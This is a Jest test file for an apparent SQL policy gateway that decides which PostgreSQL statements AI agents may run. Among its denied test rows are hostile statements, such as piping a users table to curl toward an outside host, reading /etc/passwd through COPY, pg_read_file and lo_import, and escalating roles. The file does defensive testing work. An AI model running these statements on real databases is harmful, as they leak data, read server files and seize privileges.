import { PolicyEvaluateRequestSchema, uuidv7, type Decision, type PolicyEvaluateRequest } from '@airlock/contracts';
import { classifySql, loadSqlParser } from '@airlock/sql';
import { PolicyEvaluator } from './evaluator';
import { parsePolicyDocument } from './policy-document';

/**
 * The decision table for PostgreSQL statements: what a typical policy makes of each kind of
 * statement once the real parser has classified it.
 */
const POLICY = `
id: app-db-policy
version: t1
rules:
  - id: read
    description: agents read and manage their own session
    effect: allow
    connections: [app-db]
    principals: [{ groups: [agents] }]
    sql: { classes: [read, session, transaction] }
    masking: [default]
  - id: write-orders
    description: writers change orders
    effect: allow
    connections: [app-db]
    principals: [{ groups: [writers] }]
    sql:
      classes: [write]
      # SELECT: a data-modifying CTE is a SELECT that writes.
      commands: [SELECT, INSERT, UPDATE, DELETE, COPY]
      tables: [public.orders, orders]
      # The only functions a write may call.
      functions: [now, lower, upper, count]
  - id: never
    description: no unbounded writes, server files or programs, dangerous functions or role changes
    effect: deny
    connections: [app-db]
    sql: { risks: [write-without-where, dangerous-function, server-program, server-file, role-change] }
  - id: destructive
    description: a human approves dropping or emptying tables
    effect: review
    connections: [app-db]
    principals: [{ groups: [agents] }]
    sql: { commands: [DROP TABLE, TRUNCATE TABLE] }
`;

const WRITER = ['agents', 'writers'];
const READER = ['agents'];

function request(
  sql: string,
  groups: string[],
  params?: (string | null)[],
  policyConnection = 'app-db',
): PolicyEvaluateRequest {
  const c = classifySql(sql);
  return PolicyEvaluateRequestSchema.parse({
    requestId: uuidv7(),
    sessionId: uuidv7(),
    principal: { issuer: 'https://idp.example', subject: 'agent-1', groups },
    connection: policyConnection,
    protocol: 'postgres',
    operation: {
      kind: 'postgres',
      via: params ? 'extended' : 'simple',
      sql: c.normalized,
      fingerprint: c.fingerprint,
      parsed: c.parsed,
      statements: c.parsed ? c.statements : [],
      paramCount: params?.length ?? 0,
      params,
    },
  });
}

const psqlListTables =
  'SELECT n.nspname as "Schema", c.relname as "Name", ' +
  "CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' END as \"Type\", " +
  'pg_catalog.pg_get_userbyid(c.relowner) as "Owner" FROM pg_catalog.pg_class c ' +
  'LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace ' +
  "WHERE c.relkind IN ('r','p','v','m','S','f','') AND n.nspname <> 'pg_catalog' " +
  "AND n.nspname !~ '^pg_toast' AND n.nspname <> 'information_schema' " +
  'AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2;';
const psqlDescribeColumns =
  'SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod), ' +
  '(SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true) FROM pg_catalog.pg_attrdef d ' +
  'WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef), a.attnotnull, ' +
  '(SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t ' +
  'WHERE c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) AS attcollation ' +
  "FROM pg_catalog.pg_attribute a WHERE a.attrelid = '16385' AND a.attnum > 0 AND NOT a.attisdropped " +
  'ORDER BY a.attnum;';
const psqlListDatabases =
  'SELECT d.datname as "Name", pg_catalog.pg_get_userbyid(d.datdba) as "Owner", ' +
  'pg_catalog.pg_encoding_to_char(d.encoding) as "Encoding", ' +
  'pg_catalog.array_to_string(d.datacl, E\'\\n\') AS "Access privileges" ' +
  'FROM pg_catalog.pg_database d ORDER BY 1;';
const psqlListRoles =
  'SELECT r.rolname, r.rolsuper, r.rolinherit, r.rolcreaterole, r.rolcreatedb, r.rolcanlogin, ' +
  'r.rolconnlimit, r.rolvaliduntil, ARRAY(SELECT b.rolname FROM pg_catalog.pg_auth_members m ' +
  'JOIN pg_catalog.pg_roles b ON (m.roleid = b.oid) WHERE m.member = r.oid) as memberof, r.rolreplication ' +
  "FROM pg_catalog.pg_roles r WHERE r.rolname !~ '^pg_' ORDER BY 1;";
const psqlIndexes =
  'SELECT c2.relname, i.indisprimary, i.indisunique, pg_catalog.pg_get_indexdef(i.indexrelid, 0, true), ' +
  'pg_catalog.pg_get_constraintdef(con.oid, true), contype FROM pg_catalog.pg_class c, pg_catalog.pg_class c2, ' +
  'pg_catalog.pg_index i LEFT JOIN pg_catalog.pg_constraint con ON (conrelid = i.indrelid AND conindid = i.indexrelid) ' +
  "WHERE c.oid = '16385' AND c.oid = i.indrelid AND i.indexrelid = c2.oid ORDER BY i.indisprimary DESC, c2.relname;";

/** [statement, decision for a writer, decision for a reader (when the table checks it)]. */
const TABLE: [string, Decision, Decision?][] = [
  // reads
  ['SELECT 1', 'allow', 'allow'],
  ['SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.total > 100', 'allow'],
  ['SELECT * FROM users WHERE id IN (SELECT user_id FROM orders WHERE total > 10)', 'allow'],
  [
    "WITH recent AS (SELECT * FROM orders WHERE created > now() - interval '1 day') SELECT count(*) FROM recent",
    'allow',
  ],
  ['SELECT lower(email), count(*) FROM users GROUP BY 1 HAVING count(*) > 1 ORDER BY 2 DESC LIMIT 10', 'allow'],
  ['SELECT id, row_number() OVER (PARTITION BY customer_id ORDER BY created) FROM orders', 'allow'],
  ["SELECT jsonb_build_object('id', id, 'total', round(total, 2)) FROM public.orders", 'allow'],
  ["VALUES (1, 'a'), (2, 'b')", 'allow'],
  ['TABLE orders', 'allow'],
  ['SELECT * FROM generate_series(1, 10) AS g(n)', 'allow'],
  ['SELECT version(), current_database(), current_user, pg_backend_pid()', 'allow'],
  ['SELECT pg_sleep(0.1)', 'allow'],
  [
    'SELECT n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ' +
      'ON n.oid = c.relnamespace WHERE pg_catalog.pg_table_is_visible(c.oid)',
    'allow',
    'allow',
  ],
  [psqlListTables, 'allow', 'allow'],
  [psqlDescribeColumns, 'allow'],
  [psqlListDatabases, 'allow'],
  [psqlListRoles, 'allow'],
  [psqlIndexes, 'allow'],
  ['EXPLAIN SELECT * FROM orders WHERE id = 1', 'allow'],
  ['EXPLAIN ANALYZE SELECT * FROM orders WHERE id = 1', 'allow'],
  // Without ANALYZE the DELETE is only planned.
  ['EXPLAIN DELETE FROM orders', 'allow'],
  ['COPY users TO STDOUT', 'allow', 'allow'],
  ['COPY (SELECT id, total FROM orders) TO STDOUT WITH (FORMAT csv)', 'allow'],

  // writes
  ['INSERT INTO orders (id, total) VALUES (1, 10)', 'allow', 'deny'],
  ['INSERT INTO public.orders (id, created) VALUES (2, now())', 'allow', 'deny'],
  ['UPDATE orders SET total = 0 WHERE id = 1', 'allow', 'deny'],
  ["UPDATE orders SET note = upper('x') WHERE id = 1 RETURNING id", 'allow'],
  ['DELETE FROM orders WHERE id = 1', 'allow', 'deny'],
  ['DELETE FROM orders WHERE CURRENT OF c', 'allow'],
  ['INSERT INTO users (id) VALUES (1)', 'deny'],
  ["UPDATE users SET name = 'x' WHERE id = 1", 'deny'],
  ['DELETE FROM customers WHERE id = 1', 'deny'],
  ['INSERT INTO orders SELECT * FROM users', 'deny'],
  ['UPDATE orders SET note = my_func(note) WHERE id = 1', 'deny'],
  ['MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN UPDATE SET total = s.total', 'deny'],
  ['UPDATE orders SET total = 0', 'deny', 'deny'],
  ['DELETE FROM orders', 'deny', 'deny'],
  ['COPY orders FROM STDIN', 'allow', 'deny'],
  ['COPY users FROM STDIN', 'deny'],
  ['SELECT * FROM orders WHERE id = 1 FOR UPDATE', 'allow', 'deny'],

  // writes hidden in reads
  ['WITH d AS (DELETE FROM users WHERE id = 1 RETURNING *) SELECT * FROM d', 'deny', 'deny'],
  ['WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d', 'allow', 'deny'],
  ['WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT * FROM u', 'deny'],
  ['SELECT * INTO copy_users FROM users', 'deny'],
  ['CREATE TABLE backup AS SELECT * FROM orders', 'deny'],
  ['SELECT my_func()', 'deny', 'deny'],
  ['SELECT * FROM orders WHERE my_check(id)', 'deny'],
  ["SELECT nextval('s')", 'deny'],
  ['DO $$ BEGIN DELETE FROM orders; END $$', 'deny'],
  ['CALL proc()', 'deny'],
  ["COPY users TO PROGRAM 'curl -d @- https://example.com'", 'deny'],
  ["COPY users FROM '/etc/passwd'", 'deny'],
  ["COPY (SELECT 1) TO '/tmp/out.csv'", 'deny'],

  // dangerous functions
  ["SELECT pg_read_file('/etc/passwd')", 'deny', 'deny'],
  ["SELECT pg_catalog.pg_read_file('x')", 'deny'],
  ["SELECT * FROM pg_ls_dir('.')", 'deny'],
  ["SELECT lo_import('/etc/passwd')", 'deny'],
  ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'deny'],
  ['SELECT pg_reload_conf()', 'deny'],
  ["SELECT set_config('role', 'admin', false)", 'deny'],
  ["SELECT dblink_exec('host=elsewhere', 'DROP TABLE x')", 'deny'],

  // session
  ['SET ROLE admin', 'deny', 'deny'],
  ['SET SESSION AUTHORIZATION postgres', 'deny'],
  ['RESET ROLE', 'deny'],
  ['SET statement_timeout = 0', 'allow', 'allow'],
  ['SHOW search_path', 'allow', 'allow'],
  ['SET search_path TO app, public', 'allow'],
  // The server would read later strings differently from the gateway's parser.
  ['SET standard_conforming_strings = off', 'deny'],
  ["SELECT set_config('application_name', 'report', false)", 'allow'],
  ['LISTEN order_events', 'allow'],
  ['SELECT pg_advisory_lock(42)', 'allow'],

  // transactions
  ['BEGIN', 'allow', 'allow'],
  ['START TRANSACTION ISOLATION LEVEL REPEATABLE READ', 'allow'],
  ['COMMIT', 'allow'],
  ['ROLLBACK', 'allow'],
  ['SAVEPOINT s1', 'allow'],
  ['RELEASE SAVEPOINT s1', 'allow'],
  ['ROLLBACK TO SAVEPOINT s1', 'allow'],

  // schema, privileges, administration
  ['DROP TABLE orders', 'review', 'review'],
  // TRUNCATE empties the table: an unbounded write, denied like DELETE without WHERE.
  ['TRUNCATE orders', 'deny'],
  ['TRUNCATE users', 'deny', 'deny'],
  ['CREATE TABLE t (id int)', 'deny'],
  ['ALTER TABLE orders ADD COLUMN note text', 'deny'],
  ['CREATE INDEX ON orders (created)', 'deny'],
  ['DROP INDEX orders_created_idx', 'deny'],
  ['GRANT SELECT ON orders TO bob', 'deny'],
  ['REVOKE ALL ON orders FROM bob', 'deny'],
  ['CREATE ROLE intruder SUPERUSER LOGIN', 'deny'],
  ["ALTER USER app WITH PASSWORD 'x'", 'deny'],
  ['VACUUM orders', 'deny'],
  ['CHECKPOINT', 'deny'],
  ["ALTER SYSTEM SET work_mem = '1GB'", 'deny'],
  ["LOAD 'auto_explain'", 'deny'],
  ['CREATE EXTENSION dblink', 'deny'],
  ['EXPLAIN ANALYZE DELETE FROM orders', 'deny'],

  // several statements in one Query message: the strictest decides
  ['SELECT 1; DROP TABLE orders', 'review', 'review'],
  ['SELECT 1; DELETE FROM users', 'deny'],
  ['BEGIN; UPDATE orders SET total = 1 WHERE id = 1; COMMIT', 'allow', 'deny'],
  ['SELECT 1; SET ROLE admin', 'deny'],
  ['DROP TABLE orders; CHECKPOINT', 'deny'],

  // prepared statements
  ['PREPARE q AS SELECT * FROM orders WHERE id = $1', 'allow'],
  ['PREPARE del AS DELETE FROM orders WHERE id = $1', 'deny'],
  ['EXECUTE q(1)', 'deny'],
  ['DEALLOCATE q', 'allow'],

  // text the parser refuses, and text with no statement at all
  ['SELEC 1', 'deny', 'deny'],
  ['', 'allow', 'allow'],
  ['-- nothing to run', 'allow'],
];

describe('PostgreSQL statement decisions', () => {
  const policy = new PolicyEvaluator(parsePolicyDocument(POLICY));

  beforeAll(async () => {
    await loadSqlParser();
  });

  it('covers at least 60 statements', () => {
    expect(TABLE.length).toBeGreaterThanOrEqual(60);
    expect(new Set(TABLE.map(([sql]) => sql)).size).toBe(TABLE.length);
  });

  // Every row has three cells, or jest would pass its done callback as the missing one.
  const rows = TABLE.map(([sql, writer, reader]) => [sql, writer, reader ?? null] as const);
  it.each(rows)('%s → %s (writer), %s (reader)', (sql, writer, reader) => {
    expect({ sql, decision: policy.evaluate(request(sql, WRITER)).decision }).toEqual({ sql, decision: writer });
    if (reader) {
      expect({ sql, reader: policy.evaluate(request(sql, READER)).decision }).toEqual({ sql, reader });
    }
  });

  it('names the command it found no rule for, and the rule that decided', () => {
    expect(policy.evaluate(request('CREATE TABLE t (id int)', WRITER))).toMatchObject({
      decision: 'deny',
      reason: 'no rule allows CREATE TABLE on connection app-db',
    });
    expect(policy.evaluate(request('SELECT 1; DELETE FROM orders', WRITER))).toMatchObject({
      decision: 'deny',
      ruleId: 'never',
      reason: 'never: no unbounded writes, server files or programs, dangerous functions or role changes',
      masking: [],
    });
    expect(policy.evaluate(request('SELECT 1; DROP TABLE orders', WRITER))).toMatchObject({
      decision: 'review',
      ruleId: 'destructive',
      masking: ['default'],
    });
    expect(policy.evaluate(request('SELEC 1', WRITER))).toMatchObject({
      decision: 'deny',
      reason: 'statement could not be parsed; refused',
    });
    expect(policy.evaluate(request('SELECT 1', WRITER, undefined, 'other-db'))).toMatchObject({
      decision: 'deny',
      reason: 'no rule allows SELECT on connection other-db',
    });
  });

  it('lets text the parser refuses through only where a rule says so', () => {
    const withPassthrough = new PolicyEvaluator(
      parsePolicyDocument(
        `${POLICY}
  - id: raw
    description: this server speaks a dialect the parser does not know
    effect: allow
    connections: [app-db]
    principals: [{ groups: [writers] }]
    sql: { unparsed: true }
`,
      ),
    );
    expect(withPassthrough.evaluate(request('SELEC 1', WRITER))).toMatchObject({ decision: 'allow', ruleId: 'raw' });
    expect(withPassthrough.evaluate(request('SELEC 1', READER)).decision).toBe('deny');
    // The passthrough rule has nothing to say about text that parses.
    expect(withPassthrough.evaluate(request('CREATE TABLE t (id int)', WRITER)).decision).toBe('deny');
  });

  it('denies on bind parameter values, and says the decision depended on them', () => {
    const withParams = new PolicyEvaluator(
      parsePolicyDocument(
        `${POLICY}
  - id: no-card-numbers
    description: card numbers never go into the database
    effect: deny
    connections: [app-db]
    sql: { params: '^4[0-9]{15}$' }
`,
      ),
    );
    const sql = 'INSERT INTO orders (id, note) VALUES ($1, $2)';
    expect(withParams.evaluate(request(sql, WRITER, ['1', '4111111111111111']))).toMatchObject({
      decision: 'deny',
      ruleId: 'no-card-numbers',
      dependsOnParams: true,
    });
    expect(withParams.evaluate(request(sql, WRITER, ['1', 'a note']))).toMatchObject({
      decision: 'allow',
      dependsOnParams: true,
    });
    expect(withParams.evaluate(request(sql, WRITER, ['1', null]))).toMatchObject({
      decision: 'allow',
      dependsOnParams: true,
    });
    expect(withParams.evaluate(request('SELECT 1', WRITER))).toMatchObject({
      decision: 'allow',
      dependsOnParams: false,
    });
    // Without the params rule nothing depends on the values.
    expect(policy.evaluate(request(sql, WRITER, ['1', '4111111111111111']))).toMatchObject({
      decision: 'allow',
      dependsOnParams: false,
    });
  });
});
